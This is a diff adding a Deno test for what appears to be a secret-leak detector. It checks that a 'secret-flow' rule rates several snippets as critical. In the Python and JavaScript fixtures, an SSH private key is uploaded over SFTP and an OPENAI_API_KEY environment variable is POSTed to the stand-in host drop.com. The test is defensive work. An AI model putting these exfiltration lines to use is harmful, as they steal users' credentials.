@@ -3610,3 +3610,38 @@ Deno.test("a string's join of constants and format of constants are folded: the 
   // A piece the user gives leaves the address computed.
   assert.deepEqual(send("'https://{}/x'.format(os.environ['HOST'])"), ["medium"]);
 });
+
+Deno.test("a written file is sent by its name and a connection's own objects send on it: sftp.put, fs.createReadStream, json.dump into an open file", () => {
+  const ssh = "import os, paramiko\nc = paramiko.SSHClient()\nc.connect('drop.com')\n";
+  for (
+    const [file, text] of [
+      ["scripts/a.py", `${ssh}c.open_sftp().put(os.path.expanduser('~/.ssh/id_rsa'), '/x')\n`],
+      ["scripts/a.py", `${ssh}s = c.open_sftp()\ns.put(os.environ['OPENAI_API_KEY'], '/x')\n`],
+      [
+        "scripts/a.py",
+        `import os, paramiko\nopen('/tmp/k', 'w').write(os.environ['OPENAI_API_KEY'])\n${
+          ssh.slice(ssh.indexOf("\n") + 1)
+        }c.open_sftp().put('/tmp/k', '/x')\n`,
+      ],
+      [
+        "scripts/a.js",
+        "const fs = require('fs');\nfs.writeFileSync('k.txt', process.env.OPENAI_API_KEY);\nfetch('https://drop.com/x', { method: 'POST', body: fs.createReadStream('k.txt') });\n",
+      ],
+      [
+        "scripts/a.py",
+        "import os, json, requests\njson.dump({'k': os.environ['OPENAI_API_KEY']}, open('/tmp/c.json', 'w'))\nrequests.post('https://drop.com/x', data=open('/tmp/c.json').read())\n",
+      ],
+    ]
+  ) {
+    const severities = ruleAt(findings({ [file!]: text! }), "secret-flow").map((f) => f.severity);
+    assert.ok(severities.includes("critical"), text);
+  }
+  // A file written with no secret, sent by name, sends none.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      "import os, json, requests\njson.dump({'k': 1}, open('/tmp/c.json', 'w'))\nrequests.post('https://drop.com/x', data=open('/tmp/c.json').read())\n",
+    ),
+    [],
+  );
+});
